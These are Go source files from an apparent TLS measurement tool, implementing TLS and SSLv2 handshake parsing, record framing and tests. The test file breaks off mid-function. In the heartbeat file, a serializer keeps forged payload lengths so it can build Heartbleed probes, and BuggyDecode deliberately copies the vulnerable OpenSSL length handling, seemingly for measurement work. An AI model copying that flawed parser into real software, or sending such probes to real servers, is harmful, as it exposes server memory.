	if r.err != nil || len(body)%2 != 0 {
		return dst
	}
	for i := 0; i+1 < len(body); i += 2 {
		dst = append(dst, registry.CurveID(uint16(body[i])<<8|uint16(body[i+1])))
	}
	return dst
}

// AppendECPointFormats appends the offered EC point formats to dst; dst is
// returned unchanged when the extension is absent or malformed.
func (ch *ClientHello) AppendECPointFormats(dst []registry.ECPointFormat) []registry.ECPointFormat {
	e, ok := FindExtension(ch.Extensions, registry.ExtECPointFormats)
	if !ok {
		return dst
	}
	r := newReader(e.Data)
	body := r.vec8("ec_point_formats")
	if r.err != nil {
		return dst
	}
	for _, v := range body {
		dst = append(dst, registry.ECPointFormat(v))
	}
	return dst
}

// AppendSupportedVersions appends the supported_versions list to dst; dst is
// returned unchanged when the extension is absent or malformed.
func (ch *ClientHello) AppendSupportedVersions(dst []registry.Version) []registry.Version {
	e, ok := FindExtension(ch.Extensions, registry.ExtSupportedVersions)
	if !ok {
		return dst
	}
	r := newReader(e.Data)
	body := r.vec8("supported_versions")
	if r.err != nil || len(body)%2 != 0 {
		return dst
	}
	for i := 0; i+1 < len(body); i += 2 {
		dst = append(dst, registry.Version(uint16(body[i])<<8|uint16(body[i+1])))
	}
	return dst
}

// SupportedGroups returns the curves offered in the supported_groups
// extension, or nil when absent.
func (ch *ClientHello) SupportedGroups() []registry.CurveID {
	return ch.AppendSupportedGroups(nil)
}

// ECPointFormats returns the offered EC point formats, or nil when absent.
func (ch *ClientHello) ECPointFormats() []registry.ECPointFormat {
	return ch.AppendECPointFormats(nil)
}

// SupportedVersions returns the supported_versions list (TLS 1.3 style
// version negotiation), or nil when the extension is absent.
func (ch *ClientHello) SupportedVersions() []registry.Version {
	return ch.AppendSupportedVersions(nil)
}

// OffersHeartbeat reports whether the hello carries the heartbeat extension.
func (ch *ClientHello) OffersHeartbeat() bool {
	_, ok := FindExtension(ch.Extensions, registry.ExtHeartbeat)
	return ok
}

// ServerName returns the SNI host name, or "" when absent or unparseable.
func (ch *ClientHello) ServerName() string {
	e, ok := FindExtension(ch.Extensions, registry.ExtServerName)
	if !ok {
		return ""
	}
	name, err := ParseServerName(e.Data)
	if err != nil {
		return ""
	}
	return name
}

// MaxSupportedVersion returns the highest protocol version the hello offers:
// the maximum of the supported_versions list when present (TLS 1.3
// semantics, draft and experimental values canonicalized), otherwise the
// legacy version field.
func (ch *ClientHello) MaxSupportedVersion() registry.Version {
	svs := ch.SupportedVersions()
	if len(svs) == 0 {
		return ch.Version
	}
	max := registry.Version(0)
	for _, v := range svs {
		if registry.IsGREASE(uint16(v)) {
			continue
		}
		if c := v.Canonical(); c > max {
			max = c
		}
	}
	if max == 0 {
		return ch.Version
	}
	return max
}
