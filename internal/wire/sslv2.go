package wire

import (
	"fmt"

	"tlsage/internal/registry"
)

// SSLv2ClientHello is the legacy SSL 2 CLIENT-HELLO message (including its
// 2-byte record header with the high bit set). SSLv2 cipher specs are 3
// bytes; SSLv2-compatible hellos can also carry TLS suites as 0x00XXYY.
// The Notary observed 1.2K SSLv2 connections in February 2018 (§5.1), all of
// them terminating at a single university's Nagios servers, so the codec
// must still parse the format.
type SSLv2ClientHello struct {
	Version     registry.Version // version requested inside the v2 hello
	CipherSpecs []uint32         // 3-byte specs, stored in the low 24 bits
	SessionID   []byte
	Challenge   []byte
}

// sslv2MsgClientHello is the SSLv2 CLIENT-HELLO message type byte.
const sslv2MsgClientHello = 1

// MarshalBinary serializes the full SSLv2 record (2-byte header + hello).
func (h *SSLv2ClientHello) MarshalBinary() ([]byte, error) {
	if len(h.Challenge) == 0 {
		return nil, fmt.Errorf("%w: sslv2 hello needs a challenge", ErrMalformed)
	}
	var b builder
	b.u8(sslv2MsgClientHello)
	b.u16(uint16(h.Version))
	b.u16(uint16(3 * len(h.CipherSpecs)))
	b.u16(uint16(len(h.SessionID)))
	b.u16(uint16(len(h.Challenge)))
	for _, cs := range h.CipherSpecs {
		b.u24(cs & 0xffffff)
	}
	b.raw(h.SessionID)
	b.raw(h.Challenge)
	if len(b.buf) > 0x7fff {
		return nil, fmt.Errorf("%w: sslv2 hello too large", ErrMalformed)
	}
	out := make([]byte, 0, 2+len(b.buf))
	out = append(out, byte(len(b.buf)>>8)|0x80, byte(len(b.buf)))
	return append(out, b.buf...), nil
}

// DecodeFromBytes parses a full SSLv2 record containing a CLIENT-HELLO.
func (h *SSLv2ClientHello) DecodeFromBytes(data []byte) error {
	if len(data) < 2 {
		return fmt.Errorf("%w: sslv2 record header", ErrTruncated)
	}
	if data[0]&0x80 == 0 {
		return fmt.Errorf("%w: not an sslv2 2-byte record header", ErrMalformed)
	}
	length := int(data[0]&0x7f)<<8 | int(data[1])
	if len(data) < 2+length {
		return fmt.Errorf("%w: sslv2 record body", ErrTruncated)
	}
	r := newReader(data[2 : 2+length])
	if typ := r.u8("sslv2 message type"); r.err == nil && typ != sslv2MsgClientHello {
		return fmt.Errorf("%w: sslv2 message type %d", ErrMalformed, typ)
	}
	h.Version = registry.Version(r.u16("sslv2 version"))
	csLen := int(r.u16("cipher spec length"))
	sidLen := int(r.u16("session id length"))
	chLen := int(r.u16("challenge length"))
	if r.err != nil {
		return r.err
	}
	if csLen%3 != 0 {
		return fmt.Errorf("%w: sslv2 cipher spec length %d not divisible by 3", ErrMalformed, csLen)
	}
	specs := r.bytes(csLen, "cipher specs")
	sid := r.bytes(sidLen, "session id")
	challenge := r.bytes(chLen, "challenge")
	if r.err != nil {
		return r.err
	}
	h.CipherSpecs = make([]uint32, csLen/3)
	for i := range h.CipherSpecs {
		h.CipherSpecs[i] = uint32(specs[3*i])<<16 | uint32(specs[3*i+1])<<8 | uint32(specs[3*i+2])
	}
	h.SessionID = append([]byte(nil), sid...)
	h.Challenge = append([]byte(nil), challenge...)
	return nil
}

// IsSSLv2Hello sniffs whether data starts with an SSLv2 2-byte record header
// carrying a CLIENT-HELLO — the disambiguation a passive monitor performs
// before choosing a parser.
func IsSSLv2Hello(data []byte) bool {
	return len(data) >= 3 && data[0]&0x80 != 0 && data[2] == sslv2MsgClientHello
}

// TLSSuitesFromSSLv2 extracts the TLS-compatible cipher suites (specs of the
// form 0x00XXYY) from an SSLv2 spec list, preserving order.
func TLSSuitesFromSSLv2(specs []uint32) []uint16 {
	var out []uint16
	for _, s := range specs {
		if s>>16 == 0 {
			out = append(out, uint16(s))
		}
	}
	return out
}
