package wire

import (
	"encoding/binary"
	"errors"
	"fmt"
)

// Parsing and serialization errors. All decode failures wrap ErrMalformed so
// callers can classify with errors.Is; truncation additionally wraps
// ErrTruncated.
var (
	ErrMalformed = errors.New("wire: malformed message")
	ErrTruncated = fmt.Errorf("%w: truncated", ErrMalformed)
)

// reader is a bounds-checked big-endian cursor over a byte slice, in the
// style of golang.org/x/crypto/cryptobyte but stdlib-only. All methods are
// total: after the first failure the reader is poisoned and every subsequent
// call fails fast, so parse code can run a straight-line sequence of reads
// and check the error once.
type reader struct {
	data []byte
	err  error
}

func newReader(data []byte) *reader { return &reader{data: data} }

func (r *reader) fail(context string) {
	if r.err == nil {
		r.err = fmt.Errorf("%w (%s)", ErrTruncated, context)
	}
}

// empty reports whether all input has been consumed (and no error occurred).
func (r *reader) empty() bool { return r.err == nil && len(r.data) == 0 }

func (r *reader) u8(context string) uint8 {
	if r.err != nil {
		return 0
	}
	if len(r.data) < 1 {
		r.fail(context)
		return 0
	}
	v := r.data[0]
	r.data = r.data[1:]
	return v
}

func (r *reader) u16(context string) uint16 {
	if r.err != nil {
		return 0
	}
	if len(r.data) < 2 {
		r.fail(context)
		return 0
	}
	v := binary.BigEndian.Uint16(r.data)
	r.data = r.data[2:]
	return v
}

func (r *reader) u24(context string) uint32 {
	if r.err != nil {
		return 0
	}
	if len(r.data) < 3 {
		r.fail(context)
		return 0
	}
	v := uint32(r.data[0])<<16 | uint32(r.data[1])<<8 | uint32(r.data[2])
	r.data = r.data[3:]
	return v
}

// bytes consumes exactly n bytes. The returned slice aliases the input; the
// caller copies if it needs to retain the data (gopacket NoCopy convention).
func (r *reader) bytes(n int, context string) []byte {
	if r.err != nil {
		return nil
	}
	if n < 0 || len(r.data) < n {
		r.fail(context)
		return nil
	}
	v := r.data[:n]
	r.data = r.data[n:]
	return v
}

// vec8 consumes a uint8-length-prefixed vector.
func (r *reader) vec8(context string) []byte {
	n := int(r.u8(context))
	return r.bytes(n, context)
}

// vec16 consumes a uint16-length-prefixed vector.
func (r *reader) vec16(context string) []byte {
	n := int(r.u16(context))
	return r.bytes(n, context)
}

// u16list parses a uint16-length-prefixed list of uint16s; the byte length
// must be even.
func (r *reader) u16list(context string) []uint16 {
	body := r.vec16(context)
	if r.err != nil {
		return nil
	}
	if len(body)%2 != 0 {
		r.err = fmt.Errorf("%w: odd-length uint16 list (%s)", ErrMalformed, context)
		return nil
	}
	out := make([]uint16, len(body)/2)
	for i := range out {
		out[i] = binary.BigEndian.Uint16(body[2*i:])
	}
	return out
}

// builder is the write-side counterpart of reader: an appending big-endian
// serializer with length-prefix support. The zero value is ready to use.
type builder struct {
	buf []byte
}

func (b *builder) u8(v uint8)   { b.buf = append(b.buf, v) }
func (b *builder) u16(v uint16) { b.buf = append(b.buf, byte(v>>8), byte(v)) }
func (b *builder) u24(v uint32) { b.buf = append(b.buf, byte(v>>16), byte(v>>8), byte(v)) }
func (b *builder) raw(p []byte) { b.buf = append(b.buf, p...) }

// vec8 appends a uint8-length-prefixed vector. Panics if p exceeds 255
// bytes: these limits are structural, exceeding them is a programming error.
func (b *builder) vec8(p []byte) {
	if len(p) > 0xff {
		panic("wire: vec8 overflow")
	}
	b.u8(uint8(len(p)))
	b.raw(p)
}

// vec16 appends a uint16-length-prefixed vector.
func (b *builder) vec16(p []byte) {
	if len(p) > 0xffff {
		panic("wire: vec16 overflow")
	}
	b.u16(uint16(len(p)))
	b.raw(p)
}

// u16listVec appends a uint16-length-prefixed list of uint16 values.
func (b *builder) u16listVec(vals []uint16) {
	if len(vals) > 0x7fff {
		panic("wire: uint16 list overflow")
	}
	b.u16(uint16(2 * len(vals)))
	for _, v := range vals {
		b.u16(v)
	}
}
