// Package wire implements the SSL/TLS wire format needed to observe and
// generate handshakes: the record layer, handshake-message framing, the
// ClientHello and ServerHello messages (SSL3 through TLS 1.3 draft
// negotiation), alerts, and the legacy SSLv2 ClientHello.
//
// The codec follows the decoding conventions of the gopacket DecodingLayer
// API: each message type has a DecodeFromBytes method that parses from a
// byte slice without retaining it (all variable-length fields are copied),
// and an Append method that serializes into a caller-provided buffer to
// avoid allocation in hot paths. MarshalBinary/UnmarshalBinary wrappers are
// provided for convenience and for use with testing/quick.
package wire

import (
	"fmt"
	"io"

	"tlsage/internal/registry"
)

// ContentType is the TLS record-layer content type.
type ContentType uint8

// Record content types used by the handshake-observation code paths.
const (
	ContentChangeCipherSpec ContentType = 20
	ContentAlert            ContentType = 21
	ContentHandshake        ContentType = 22
	ContentApplicationData  ContentType = 23
	ContentHeartbeat        ContentType = 24
)

// String returns the conventional name of the content type.
func (c ContentType) String() string {
	switch c {
	case ContentChangeCipherSpec:
		return "change_cipher_spec"
	case ContentAlert:
		return "alert"
	case ContentHandshake:
		return "handshake"
	case ContentApplicationData:
		return "application_data"
	case ContentHeartbeat:
		return "heartbeat"
	}
	return fmt.Sprintf("content(%d)", uint8(c))
}

// HandshakeType is the handshake-message type byte.
type HandshakeType uint8

// Handshake message types relevant to passive hello observation.
const (
	TypeClientHello HandshakeType = 1
	TypeServerHello HandshakeType = 2
)

// maxRecordLen is the maximum TLSPlaintext fragment length (RFC 5246 §6.2.1).
const maxRecordLen = 1 << 14

// Record is one TLS record: the 5-byte header plus its payload.
type Record struct {
	Type    ContentType
	Version registry.Version
	Payload []byte
}

// AppendRecord serializes a record header plus payload into dst and returns
// the extended slice.
func AppendRecord(dst []byte, typ ContentType, ver registry.Version, payload []byte) ([]byte, error) {
	if len(payload) > maxRecordLen {
		return dst, fmt.Errorf("%w: record payload %d exceeds 2^14", ErrMalformed, len(payload))
	}
	dst = append(dst, byte(typ), byte(ver>>8), byte(ver), byte(len(payload)>>8), byte(len(payload)))
	return append(dst, payload...), nil
}

// ReadRecord reads exactly one TLS record from r. The payload is freshly
// allocated. It rejects payloads longer than 2^14 as the record layer does.
func ReadRecord(r io.Reader) (Record, error) {
	var hdr [5]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return Record{}, fmt.Errorf("wire: reading record header: %w", err)
	}
	length := int(hdr[3])<<8 | int(hdr[4])
	if length > maxRecordLen {
		return Record{}, fmt.Errorf("%w: record length %d exceeds 2^14", ErrMalformed, length)
	}
	rec := Record{
		Type:    ContentType(hdr[0]),
		Version: registry.Version(uint16(hdr[1])<<8 | uint16(hdr[2])),
		Payload: make([]byte, length),
	}
	if _, err := io.ReadFull(r, rec.Payload); err != nil {
		return Record{}, fmt.Errorf("wire: reading record payload: %w", err)
	}
	return rec, nil
}

// DecodeRecord parses a record from the front of data and returns the record
// plus the number of bytes consumed. The payload aliases data.
func DecodeRecord(data []byte) (Record, int, error) {
	if len(data) < 5 {
		return Record{}, 0, fmt.Errorf("%w: record header", ErrTruncated)
	}
	length := int(data[3])<<8 | int(data[4])
	if length > maxRecordLen {
		return Record{}, 0, fmt.Errorf("%w: record length %d exceeds 2^14", ErrMalformed, length)
	}
	if len(data) < 5+length {
		return Record{}, 0, fmt.Errorf("%w: record payload", ErrTruncated)
	}
	rec := Record{
		Type:    ContentType(data[0]),
		Version: registry.Version(uint16(data[1])<<8 | uint16(data[2])),
		Payload: data[5 : 5+length],
	}
	return rec, 5 + length, nil
}

// AppendHandshake wraps a handshake body with its 4-byte message header
// (type + uint24 length) and appends to dst.
func AppendHandshake(dst []byte, typ HandshakeType, body []byte) ([]byte, error) {
	if len(body) >= 1<<24 {
		return dst, fmt.Errorf("%w: handshake body too large", ErrMalformed)
	}
	dst = append(dst, byte(typ), byte(len(body)>>16), byte(len(body)>>8), byte(len(body)))
	return append(dst, body...), nil
}

// DecodeHandshake splits one handshake message off the front of data,
// returning its type, body (aliasing data) and bytes consumed.
func DecodeHandshake(data []byte) (HandshakeType, []byte, int, error) {
	if len(data) < 4 {
		return 0, nil, 0, fmt.Errorf("%w: handshake header", ErrTruncated)
	}
	length := int(data[1])<<16 | int(data[2])<<8 | int(data[3])
	if len(data) < 4+length {
		return 0, nil, 0, fmt.Errorf("%w: handshake body", ErrTruncated)
	}
	return HandshakeType(data[0]), data[4 : 4+length], 4 + length, nil
}

// Alert is a TLS alert message (2 bytes).
type Alert struct {
	Level       uint8 // 1 = warning, 2 = fatal
	Description uint8
}

// Alert descriptions used by the negotiation engine.
const (
	AlertCloseNotify           = 0
	AlertHandshakeFailure      = 40
	AlertProtocolVersion       = 70
	AlertInappropriateFallback = 86 // RFC 7507, TLS_FALLBACK_SCSV
)

// MarshalBinary implements encoding.BinaryMarshaler.
func (a Alert) MarshalBinary() ([]byte, error) {
	return []byte{a.Level, a.Description}, nil
}

// DecodeFromBytes parses an alert payload.
func (a *Alert) DecodeFromBytes(data []byte) error {
	if len(data) < 2 {
		return fmt.Errorf("%w: alert", ErrTruncated)
	}
	a.Level, a.Description = data[0], data[1]
	return nil
}

// String renders the alert for logs.
func (a Alert) String() string {
	level := "warning"
	if a.Level == 2 {
		level = "fatal"
	}
	return fmt.Sprintf("alert(%s, %d)", level, a.Description)
}
