package wire

import "fmt"

// HeartbeatMessage is an RFC 6520 heartbeat message. The Heartbleed bug
// (§5.4 of the paper) is a server trusting PayloadLength over the actual
// payload size and echoing PayloadLength bytes of process memory.
type HeartbeatMessage struct {
	// Type is 1 (request) or 2 (response).
	Type uint8
	// PayloadLength is the *claimed* payload length. A Heartbleed probe
	// claims more than it sends.
	PayloadLength uint16
	// Payload is the actual payload carried.
	Payload []byte
	// Padding is the random padding (min 16 bytes on the wire).
	Padding []byte
}

// Heartbeat message types.
const (
	HeartbeatRequest  = 1
	HeartbeatResponse = 2
)

// MarshalBinary serializes the message, preserving any mismatch between
// PayloadLength and len(Payload) — that mismatch is the exploit.
func (h *HeartbeatMessage) MarshalBinary() ([]byte, error) {
	padding := h.Padding
	if padding == nil {
		padding = make([]byte, 16)
	}
	out := make([]byte, 0, 3+len(h.Payload)+len(padding))
	out = append(out, h.Type, byte(h.PayloadLength>>8), byte(h.PayloadLength))
	out = append(out, h.Payload...)
	return append(out, padding...), nil
}

// DecodeFromBytes parses a heartbeat message the way a *correct*
// implementation must (RFC 6520 §4): if PayloadLength exceeds the actual
// data, the message is discarded silently.
func (h *HeartbeatMessage) DecodeFromBytes(data []byte) error {
	if len(data) < 3 {
		return fmt.Errorf("%w: heartbeat header", ErrTruncated)
	}
	h.Type = data[0]
	h.PayloadLength = uint16(data[1])<<8 | uint16(data[2])
	rest := data[3:]
	if int(h.PayloadLength)+16 > len(rest) {
		return fmt.Errorf("%w: heartbeat payload_length %d exceeds message", ErrMalformed, h.PayloadLength)
	}
	h.Payload = append([]byte(nil), rest[:h.PayloadLength]...)
	h.Padding = append([]byte(nil), rest[h.PayloadLength:]...)
	return nil
}

// BuggyDecode parses the message the way the vulnerable OpenSSL 1.0.1 code
// did: it trusts PayloadLength without bounds-checking it against the
// actual record. It never fails on oversized claims — that is the bug.
func (h *HeartbeatMessage) BuggyDecode(data []byte) error {
	if len(data) < 3 {
		return fmt.Errorf("%w: heartbeat header", ErrTruncated)
	}
	h.Type = data[0]
	h.PayloadLength = uint16(data[1])<<8 | uint16(data[2])
	h.Payload = append([]byte(nil), data[3:]...)
	return nil
}
