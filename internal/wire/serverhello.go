package wire

import (
	"fmt"

	"tlsage/internal/registry"
)

// ServerHello is a parsed TLS ServerHello handshake message: the server's
// choice of version, cipher suite and extensions.
type ServerHello struct {
	Version           registry.Version
	Random            [32]byte
	SessionID         []byte
	CipherSuite       uint16
	CompressionMethod byte
	Extensions        []Extension
}

// Append serializes the ServerHello handshake body into dst.
func (sh *ServerHello) Append(dst []byte) ([]byte, error) {
	b := builder{buf: dst}
	b.u16(uint16(sh.Version))
	b.raw(sh.Random[:])
	if len(sh.SessionID) > 32 {
		return dst, fmt.Errorf("%w: session id %d bytes", ErrMalformed, len(sh.SessionID))
	}
	b.vec8(sh.SessionID)
	b.u16(sh.CipherSuite)
	b.u8(sh.CompressionMethod)
	if err := appendExtensions(&b, sh.Extensions); err != nil {
		return dst, err
	}
	return b.buf, nil
}

// MarshalBinary implements encoding.BinaryMarshaler, returning the handshake
// body.
func (sh *ServerHello) MarshalBinary() ([]byte, error) { return sh.Append(nil) }

// DecodeFromBytes parses a ServerHello handshake body. The input is not
// retained.
func (sh *ServerHello) DecodeFromBytes(data []byte) error {
	r := newReader(data)
	sh.Version = registry.Version(r.u16("server version"))
	copy(sh.Random[:], r.bytes(32, "random"))
	sid := r.vec8("session id")
	sh.CipherSuite = r.u16("cipher suite")
	sh.CompressionMethod = r.u8("compression method")
	if r.err != nil {
		return r.err
	}
	sh.SessionID = append([]byte(nil), sid...)
	sh.Extensions = nil
	if r.empty() {
		return nil
	}
	exts, err := parseExtensions(r)
	if err != nil {
		return err
	}
	if !r.empty() {
		return fmt.Errorf("%w: %d trailing bytes after extensions", ErrMalformed, len(r.data))
	}
	sh.Extensions = exts
	return nil
}

// AppendRecord serializes the full on-the-wire form (record + handshake
// headers) appended to dst.
func (sh *ServerHello) AppendRecord(dst []byte) ([]byte, error) {
	body, err := sh.MarshalBinary()
	if err != nil {
		return dst, err
	}
	msg, err := AppendHandshake(nil, TypeServerHello, body)
	if err != nil {
		return dst, err
	}
	recVer := sh.Version
	if recVer.IsTLS13Variant() {
		recVer = registry.VersionTLS12 // 1.3 ServerHellos use a 1.2 record version
	}
	return AppendRecord(dst, ContentHandshake, recVer, msg)
}

// SelectedVersion returns the negotiated protocol version, honouring the
// supported_versions extension when the server used TLS 1.3 negotiation.
func (sh *ServerHello) SelectedVersion() registry.Version {
	e, ok := FindExtension(sh.Extensions, registry.ExtSupportedVersions)
	if ok && len(e.Data) == 2 {
		return registry.Version(uint16(e.Data[0])<<8 | uint16(e.Data[1]))
	}
	return sh.Version
}

// AcksHeartbeat reports whether the server echoed the heartbeat extension
// (the condition the paper uses for "heartbeat negotiated", §5.4).
func (sh *ServerHello) AcksHeartbeat() bool {
	_, ok := FindExtension(sh.Extensions, registry.ExtHeartbeat)
	return ok
}

// NewServerSupportedVersionsExtension builds the ServerHello form of
// supported_versions: exactly one selected version.
func NewServerSupportedVersionsExtension(v registry.Version) Extension {
	return Extension{
		ID:   registry.ExtSupportedVersions,
		Data: []byte{byte(v >> 8), byte(v)},
	}
}
