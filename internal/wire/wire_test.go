package wire

import (
	"bytes"
	"errors"
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"

	"tlsage/internal/registry"
)

func sampleClientHello() *ClientHello {
	ch := &ClientHello{
		Version:            registry.VersionTLS12,
		SessionID:          []byte{1, 2, 3, 4},
		CipherSuites:       []uint16{0xC02F, 0xC030, 0xC013, 0xC014, 0x009C, 0x0035, 0x002F, 0x000A},
		CompressionMethods: []byte{0},
		Extensions: []Extension{
			NewServerNameExtension("example.org"),
			NewSupportedGroupsExtension([]registry.CurveID{registry.CurveX25519, registry.CurveSecp256r1, registry.CurveSecp384r1}),
			NewECPointFormatsExtension([]registry.ECPointFormat{registry.PointFormatUncompressed}),
			NewSupportedVersionsExtension([]registry.Version{registry.VersionTLS13, registry.VersionTLS12}),
			NewHeartbeatExtension(1),
		},
	}
	for i := range ch.Random {
		ch.Random[i] = byte(i)
	}
	return ch
}

func TestClientHelloRoundTrip(t *testing.T) {
	ch := sampleClientHello()
	raw, err := ch.MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	var got ClientHello
	if err := got.DecodeFromBytes(raw); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(ch, &got) {
		t.Fatalf("round trip mismatch:\n%+v\n%+v", ch, &got)
	}
}

func TestClientHelloAccessors(t *testing.T) {
	ch := sampleClientHello()
	if got := ch.ServerName(); got != "example.org" {
		t.Errorf("ServerName = %q", got)
	}
	groups := ch.SupportedGroups()
	if len(groups) != 3 || groups[0] != registry.CurveX25519 {
		t.Errorf("SupportedGroups = %v", groups)
	}
	pf := ch.ECPointFormats()
	if len(pf) != 1 || pf[0] != registry.PointFormatUncompressed {
		t.Errorf("ECPointFormats = %v", pf)
	}
	if !ch.OffersHeartbeat() {
		t.Error("OffersHeartbeat = false")
	}
	if got := ch.MaxSupportedVersion(); got != registry.VersionTLS13 {
		t.Errorf("MaxSupportedVersion = %v", got)
	}
	ids := ch.ExtensionIDs()
	if len(ids) != 5 || ids[0] != registry.ExtServerName {
		t.Errorf("ExtensionIDs = %v", ids)
	}
}

func TestMaxSupportedVersionFallsBackToLegacy(t *testing.T) {
	ch := &ClientHello{Version: registry.VersionTLS12, CipherSuites: []uint16{0x002F}}
	if got := ch.MaxSupportedVersion(); got != registry.VersionTLS12 {
		t.Errorf("MaxSupportedVersion = %v, want TLS12", got)
	}
	// GREASE-only supported_versions also falls back.
	ch.Extensions = []Extension{NewSupportedVersionsExtension([]registry.Version{0x0a0a})}
	if got := ch.MaxSupportedVersion(); got != registry.VersionTLS12 {
		t.Errorf("MaxSupportedVersion with GREASE-only list = %v, want TLS12", got)
	}
	// Draft versions canonicalize to TLS 1.3.
	ch.Extensions = []Extension{NewSupportedVersionsExtension([]registry.Version{registry.VersionTLS13Google, registry.VersionTLS12})}
	if got := ch.MaxSupportedVersion(); got != registry.VersionTLS13 {
		t.Errorf("MaxSupportedVersion with google draft = %v, want TLS13", got)
	}
}

func TestClientHelloNoExtensions(t *testing.T) {
	ch := &ClientHello{
		Version:      registry.VersionSSL3,
		CipherSuites: []uint16{0x0005, 0x0004},
	}
	raw, err := ch.MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	// An SSL3-era hello may legitimately end right after compression methods.
	// Strip the (empty) extensions block we emit and check the parser accepts
	// the shorter form.
	raw = raw[:len(raw)-2]
	var got ClientHello
	if err := got.DecodeFromBytes(raw); err != nil {
		t.Fatal(err)
	}
	if len(got.Extensions) != 0 {
		t.Errorf("expected no extensions, got %v", got.Extensions)
	}
	if got.SupportedGroups() != nil || got.ServerName() != "" || got.OffersHeartbeat() {
		t.Error("accessors on extension-less hello should be empty")
	}
}

func TestClientHelloEmptySuitesRejected(t *testing.T) {
	ch := &ClientHello{Version: registry.VersionTLS12}
	if _, err := ch.MarshalBinary(); !errors.Is(err, ErrMalformed) {
		t.Errorf("empty suite list should be rejected, got %v", err)
	}
}

func TestClientHelloTruncationNeverPanics(t *testing.T) {
	full := sampleClientHello()
	raw, err := full.MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	// The one prefix that is legitimately parseable: a hello ending exactly
	// after compression methods (extension-less SSL3-style form).
	noExtLen := 2 + 32 + 1 + len(full.SessionID) + 2 + 2*len(full.CipherSuites) + 1 + len(full.CompressionMethods)
	for i := 0; i < len(raw); i++ {
		var ch ClientHello
		err := ch.DecodeFromBytes(raw[:i])
		if err == nil {
			if i != noExtLen {
				t.Fatalf("truncated hello of %d/%d bytes decoded without error", i, len(raw))
			}
			continue
		}
		if !errors.Is(err, ErrMalformed) {
			t.Fatalf("error not wrapping ErrMalformed: %v", err)
		}
	}
}

func TestServerHelloRoundTrip(t *testing.T) {
	sh := &ServerHello{
		Version:     registry.VersionTLS12,
		SessionID:   []byte{9, 9},
		CipherSuite: 0xC02F,
		Extensions: []Extension{
			NewHeartbeatExtension(1),
			NewServerSupportedVersionsExtension(registry.VersionTLS13),
		},
	}
	raw, err := sh.MarshalBinary()
	if err != nil {
		t.Fatal(err)
	}
	var got ServerHello
	if err := got.DecodeFromBytes(raw); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(sh, &got) {
		t.Fatalf("round trip mismatch:\n%+v\n%+v", sh, &got)
	}
	if !got.AcksHeartbeat() {
		t.Error("AcksHeartbeat = false")
	}
	if got.SelectedVersion() != registry.VersionTLS13 {
		t.Errorf("SelectedVersion = %v, want TLS13 via supported_versions", got.SelectedVersion())
	}
}

func TestServerHelloSelectedVersionLegacy(t *testing.T) {
	sh := &ServerHello{Version: registry.VersionTLS11, CipherSuite: 0x002F}
	if sh.SelectedVersion() != registry.VersionTLS11 {
		t.Error("SelectedVersion should fall back to legacy version")
	}
}

func TestServerHelloTruncation(t *testing.T) {
	sh := &ServerHello{Version: registry.VersionTLS12, CipherSuite: 0xC02F,
		Extensions: []Extension{NewHeartbeatExtension(1)}}
	raw, _ := sh.MarshalBinary()
	noExtLen := 2 + 32 + 1 + len(sh.SessionID) + 2 + 1
	for i := 0; i < len(raw); i++ {
		var got ServerHello
		if err := got.DecodeFromBytes(raw[:i]); err == nil && i != noExtLen {
			t.Fatalf("truncated server hello of %d bytes decoded", i)
		}
	}
}

func TestRecordRoundTrip(t *testing.T) {
	payload := []byte{1, 2, 3, 4, 5}
	raw, err := AppendRecord(nil, ContentHandshake, registry.VersionTLS10, payload)
	if err != nil {
		t.Fatal(err)
	}
	rec, n, err := DecodeRecord(raw)
	if err != nil || n != len(raw) {
		t.Fatalf("DecodeRecord: %v n=%d", err, n)
	}
	if rec.Type != ContentHandshake || rec.Version != registry.VersionTLS10 || !bytes.Equal(rec.Payload, payload) {
		t.Errorf("record mismatch: %+v", rec)
	}
	// Stream form.
	rec2, err := ReadRecord(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(rec2.Payload, payload) {
		t.Error("ReadRecord payload mismatch")
	}
}

func TestRecordOversizeRejected(t *testing.T) {
	big := make([]byte, maxRecordLen+1)
	if _, err := AppendRecord(nil, ContentHandshake, registry.VersionTLS10, big); err == nil {
		t.Error("oversize record accepted")
	}
	hdr := []byte{22, 3, 1, 0xff, 0xff}
	if _, _, err := DecodeRecord(append(hdr, make([]byte, 0xffff)...)); err == nil {
		t.Error("oversize record decoded")
	}
}

func TestHandshakeFraming(t *testing.T) {
	body := []byte{0xde, 0xad}
	msg, err := AppendHandshake(nil, TypeClientHello, body)
	if err != nil {
		t.Fatal(err)
	}
	typ, got, n, err := DecodeHandshake(msg)
	if err != nil || n != len(msg) {
		t.Fatal(err)
	}
	if typ != TypeClientHello || !bytes.Equal(got, body) {
		t.Error("handshake framing mismatch")
	}
	if _, _, _, err := DecodeHandshake(msg[:3]); err == nil {
		t.Error("truncated handshake header decoded")
	}
}

func TestFullRecordPath(t *testing.T) {
	// ClientHello → record bytes → record decode → handshake decode → hello.
	ch := sampleClientHello()
	raw, err := ch.AppendRecord(nil)
	if err != nil {
		t.Fatal(err)
	}
	rec, _, err := DecodeRecord(raw)
	if err != nil {
		t.Fatal(err)
	}
	if rec.Type != ContentHandshake {
		t.Fatalf("record type %v", rec.Type)
	}
	if rec.Version != registry.VersionTLS10 {
		t.Fatalf("record version %v, want TLS10 clamp", rec.Version)
	}
	typ, body, _, err := DecodeHandshake(rec.Payload)
	if err != nil || typ != TypeClientHello {
		t.Fatal(err)
	}
	var got ClientHello
	if err := got.DecodeFromBytes(body); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(ch, &got) {
		t.Error("full path mismatch")
	}
}

func TestServerHelloRecordVersionClamp(t *testing.T) {
	sh := &ServerHello{Version: registry.VersionTLS13, CipherSuite: 0x1301}
	raw, err := sh.AppendRecord(nil)
	if err != nil {
		t.Fatal(err)
	}
	rec, _, err := DecodeRecord(raw)
	if err != nil {
		t.Fatal(err)
	}
	if rec.Version != registry.VersionTLS12 {
		t.Errorf("TLS 1.3 ServerHello record version = %v, want TLS12", rec.Version)
	}
}

func TestAlertRoundTrip(t *testing.T) {
	a := Alert{Level: 2, Description: AlertHandshakeFailure}
	raw, _ := a.MarshalBinary()
	var got Alert
